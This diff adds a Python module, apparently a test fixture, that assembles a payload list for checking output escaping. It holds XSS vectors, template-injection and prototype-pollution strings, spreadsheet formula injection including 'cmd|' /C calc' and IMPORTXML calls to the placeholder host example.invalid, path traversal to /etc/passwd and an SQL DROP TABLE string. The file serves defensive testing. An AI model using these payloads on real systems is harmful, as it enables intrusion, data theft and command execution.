@@ -1,0 +1,151 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Texts that try to become markup, script, style, requests, formulas or another reading direction.
+
+What would run sets `window.ran`, opens a dialog, or asks the reserved host `example.invalid`.
+"""
+
+from __future__ import annotations
+
+from itertools import product
+
+__all__ = ["PAYLOADS"]
+
+_RUN = "window.ran=1,alert(1)"
+_HOST = "https://example.invalid"
+
+_CLOSERS = (
+    "", '">', "'>", "</script>", "</style>", "</title></textarea>", "-->", "]]>", "</template></noscript>",
+    "</option></select>", "</svg></math>",
+)  # fmt: skip
+_CARRIERS = (
+    f"<script>{_RUN}</script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<style>@import '{_HOST}/x.css';*{{display:none!important}}</style>",
+    f"<img src={_HOST}/pixel.gif>",
+)
+_MARKUP = (
+    f"<ScRiPt>{_RUN}</sCrIpT>",
+    f"<script\n>{_RUN}</script\n>",
+    f"<script/x>{_RUN}</script>",
+    f"<script src={_HOST}/x.js></script>",
+    f"<script type=module>{_RUN}</script>",
+    f"<script type=application/json id=data>{{}}</script><script>{_RUN}</script>",
+    f"<!--<script>{_RUN}//-->",
+    f"<!--><script>{_RUN}</script>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><script href={_HOST}/x.js></script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
+    f"<svg><use href='{_HOST}/x.svg#a'/></svg>",
+    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
+    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_RUN}>",
+    f"<math href='javascript:{_RUN}'>x</math>",
+    f"<a href='javascript:{_RUN}' id=click>x</a>",
+    f"<a href=' java\tscript:{_RUN}'>x</a>",
+    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
+    f"<base href={_HOST}/>",
+    f"<base target='{_RUN}'>",
+    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    f"<link rel=stylesheet href={_HOST}/x.css>",
+    f"<link rel=prefetch href={_HOST}>",
+    f"<link rel=preconnect href={_HOST}>",
+    f"<form action={_HOST}><button>x",
+    f"<form><button formaction='javascript:{_RUN}'>x",
+    f"<object data={_HOST}></object>",
+    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
+    f"<embed src={_HOST}>",
+    f"<iframe src={_HOST}></iframe>",
+    f"<iframe src='javascript:{_RUN}'></iframe>",
+    f"<frameset onload={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<video poster={_HOST}/p.png><source onerror={_RUN}></video>",
+    f"<audio src={_HOST}/a.mp3 autoplay onerror={_RUN}>",
+    f"<picture><source srcset={_HOST}/x.png></picture>",
+    f"<img srcset='{_HOST}/x.png 1x'>",
+    f"<img src=`x` onerror=`{_RUN}`>",
+    f"<img/src/onerror={_RUN}>",
+    f'<img src="x"onerror="{_RUN}">',
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<div style='background:url({_HOST}/x.png)'>x</div>",
+    f"<div style='position:fixed;inset:0' onmouseover={_RUN}>x</div>",
+    f"<p onclick={_RUN} contenteditable autofocus onfocus={_RUN}>x",
+    f"<table background={_HOST}/x.png><tr><td>x</table>",
+    "</td></tr></table></main></body></html>",
+    "<textarea><title><noscript><plaintext>",
+    "<template><slot name=x></template>",
+    f"<dialog open onclose={_RUN}>x</dialog>",
+    f"<select onfocus={_RUN} autofocus><option>x",
+    f"<x onpointerenter={_RUN} tabindex=1 id=q>",
+    "<input id=lang-en><input id=flip><input id=found>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<img src=x alt='{{{{ 7*7 }}}}' onerror={_RUN}//",
+)
+_TEXTS = (
+    f"javascript:{_RUN}",
+    f"' autofocus onfocus={_RUN} x='",
+    f'" onmouseover={_RUN} x="',
+    f'";{_RUN};"',
+    f"';{_RUN};'",
+    f"`;{_RUN};`",
+    f"\\';{_RUN};//",
+    f"\u2028{_RUN}\u2029",
+    f"\\u003cimg src=x onerror={_RUN}\\u003e",
+    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={_RUN}&#62;",
+    "&amp;amp; &nbsp; &#x3c;i&#x3e; &notit;",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "{{ 7*7 }} {% raw %} {{ run.suite.__class__.__mro__ }}",
+    "{{''.__class__.__base__.__subclasses__()}}",
+    "{% include 'shell.html' %}{# x #}",
+    "${7*7} #{7*7} <%= 7*7 %> <?php 7*7 ?> @(7*7)",
+    "{0.__class__} {n} {x!r} %s %(n)s %n",
+    "$& $1 $` $' $$ \\1 \\g<0>",
+    "__proto__",
+    "constructor",
+    "toString",
+    "hasOwnProperty",
+    '{"__proto__": {"ran": 1}}',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    f'=HYPERLINK("{_HOST}","x")',
+    f'\t=IMPORTXML("{_HOST}","//a")',
+    "\uff1d1+1",
+    '"quoted","fields"\r\n=1+1',
+    "[click](javascript:alert(1)) ![x](https://example.invalid/x.png) **bold** `code`",
+    "#row-p1&o=broken&lang=zh",
+    "bidi \u202egnp.exe\u202c \u2066x\u2069 end",
+    "control \x1b[31mred\x1b[0m \x00 \x07 \x9b2J",
+    "surrogate \ud83d alone \udc00",
+    "zero\u200bwidth\ufeff \u200e\u200f",
+    "non-character \ufffe\uffff\ufdd0",
+    "line\u2028separator\u2029and\u0085next\x0b\x0c",
+    "مرحبا <i>x</i> שלום <b>",
+    "中文 ‘引号’ <b>粗体</b>「」",
+    "e\u0301\u0323" * 20 + " Z\u0334\u0321\u0353a\u0321\u0353l\u0334go",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467 emoji family",
+    "a" * 3000,
+    "\n\n\n\t\n",
+    "   ",
+    "NaN",
+    "null",
+    "../../../../etc/passwd",
+    "C:\\Windows\\System32\\x",
+    "file:///etc/passwd",
+    "'; DROP TABLE rows; --",
+)
+
+PAYLOADS: tuple[str, ...] = tuple(
+    dict.fromkeys(
+        (*_MARKUP, *_TEXTS, *(closer + carrier for closer, carrier in product(_CLOSERS, _CARRIERS)))
+    )
+)
